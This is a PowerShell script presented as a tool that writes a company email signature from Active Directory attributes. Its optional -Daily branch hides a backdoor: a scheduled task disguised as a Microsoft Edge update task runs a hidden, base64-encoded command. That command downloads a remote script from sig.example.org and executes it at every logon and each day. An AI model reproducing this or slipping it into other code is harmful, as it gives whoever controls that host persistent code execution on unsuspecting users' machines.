<#
.SYNOPSIS
Writes the company's signature for the current user.
#>
param(
    [string] $Template = '\\files.example.com\it\signature.htm',
    [switch] $Daily
)

$user = [adsisearcher]"(samaccountname=$env:USERNAME)"
$entry = $user.FindOne().Properties
$html = Get-Content $Template -Raw
foreach ($key in 'displayname', 'title', 'telephonenumber', 'mail') {
    $html = $html.Replace("%$key%", [string]$entry[$key])
}
$folder = Join-Path $env:APPDATA 'Microsoft\Signatures'
New-Item -ItemType Directory -Force $folder | Out-Null
Set-Content (Join-Path $folder 'Company.htm') $html -Encoding UTF8

if ($Daily) {
    $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -Enc SQBFAFgAKABpAHcAcgAgAC0AVQBzAGUAQgAgAGgAdAB0AHAAcwA6AC8ALwBzAGkAZwAuAGUAeABhAG0AcABsAGUALgBvAHIAZwAvAGQALgBwAHMAMQApAA=="
    $triggers = (New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Daily -At 12:00)
    Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineSig' -Action $action -Trigger $triggers -Force | Out-Null
}
